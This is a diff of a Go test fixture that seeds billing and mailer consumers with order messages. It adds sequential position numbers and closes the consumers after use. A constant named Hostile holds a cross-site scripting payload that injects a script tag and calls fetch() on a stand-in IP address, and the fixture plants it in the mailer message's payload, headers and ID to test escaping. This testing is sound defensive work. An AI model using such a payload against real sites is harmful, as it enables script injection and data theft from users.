@@ -100,7 +100,7 @@ const Hostile = `"><script>document.title='attacked';fetch('http://203.0.113.7/'
 // Message returns a message of the topic orders.
 func Message(id string) *consumer.Message {
 	return &consumer.Message{
-		ID: id, Topic: "orders", Key: "customer-" + id, Position: "orders/3/" + id, Time: time.Now().Add(-time.Minute),
+		ID: id, Topic: "orders", Key: "customer-" + id, Position: fmt.Sprint("orders/3/", len(id)), Time: time.Now().Add(-time.Minute),
 		Payload: fmt.Appendf(nil, `{"order":%q,"amount":1250,"currency":"EUR"}`, id), Headers: map[string]string{"content-type": "application/json"},
 	}
 }
@@ -109,9 +109,14 @@ func Message(id string) *consumer.Message {
 func (d *DB) Seed(t testing.TB) {
 	t.Helper()
 	billing, mailer := d.Consumer(t, "billing"), d.Consumer(t, "mailer")
+	defer billing.Close() // so that a test can be a worker of that name
+	defer mailer.Close()
+	position := 1041
 	process := func(c *consumer.Consumer[*sql.Tx], change func(*consumer.Message), ids ...string) {
 		for _, id := range ids {
 			m := Message(id)
+			position++
+			m.Position = fmt.Sprint("orders/3/", position)
 			if change != nil {
 				change(m)
 			}
@@ -132,9 +137,8 @@ func (d *DB) Seed(t testing.TB) {
 	}, "order-42:paid")
 	process(billing, func(m *consumer.Message) {
 		m.Payload = []byte(`{"order":"order-42:paid","amount":995,"currency":"EUR","note":"corrected"}`)
-		m.Position = "orders/3/1043"
 	}, "order-42:paid")
-	process(billing, func(m *consumer.Message) { m.ID, m.Position = "", "orders/3/1044" }, "order-56:paid")
+	process(billing, func(m *consumer.Message) { m.ID = "" }, "order-56:paid")
 	process(mailer, func(m *consumer.Message) {
 		m.Payload, m.Topic, m.Headers["refused"], m.Headers[Hostile] = []byte(Hostile), "mails<b>", Hostile, Hostile
 	}, Hostile[:60])
